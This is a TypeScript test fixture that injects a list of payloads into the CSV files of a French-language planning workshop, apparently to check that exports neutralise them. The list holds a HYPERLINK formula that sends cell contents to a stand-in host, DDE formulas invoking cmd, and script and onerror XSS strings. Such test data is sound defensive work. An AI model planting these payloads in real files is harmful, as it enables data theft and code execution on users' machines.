import { BILAN_HEADER, workshop } from "./workshop.js";

/** What groups type that must never run in someone else's spreadsheet or browser. */
export const PAYLOADS = [
  '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez ici")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "<script>alert('x')</script>",
  '<img src=x onerror="alert(1)">',
  "\tTAB=1+1",
  "| pipe | dans | un tableau |",
];

export function payloadWorkshop(): string {
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const bilan = PAYLOADS.map((p, i) => `1;1.1.${i + 1};${q(p)};Réalisé;100;1000;-\r\n`).join("");
  const constats = PAYLOADS.map((p) => `1;Faiblesse;${q(p)}\r\n`).join("");
  const propositions = PAYLOADS.map(
    (p, i) => `1;Prévenir;${q(p)};Indicateur ${i};CNLTP;2024;1000\r\n`,
  ).join("");
  return workshop({
    "J1/propositions.csv": `Axe;Objectif;Action;Indicateur;Responsable;Calendrier;Coût estimé (FCFA)\r\n${propositions}`,
    "J1/bilan.csv": `${BILAN_HEADER}${bilan}`,
    "J1/constats.csv": `Axe;Type;Constat\r\n${constats}`,
  });
}
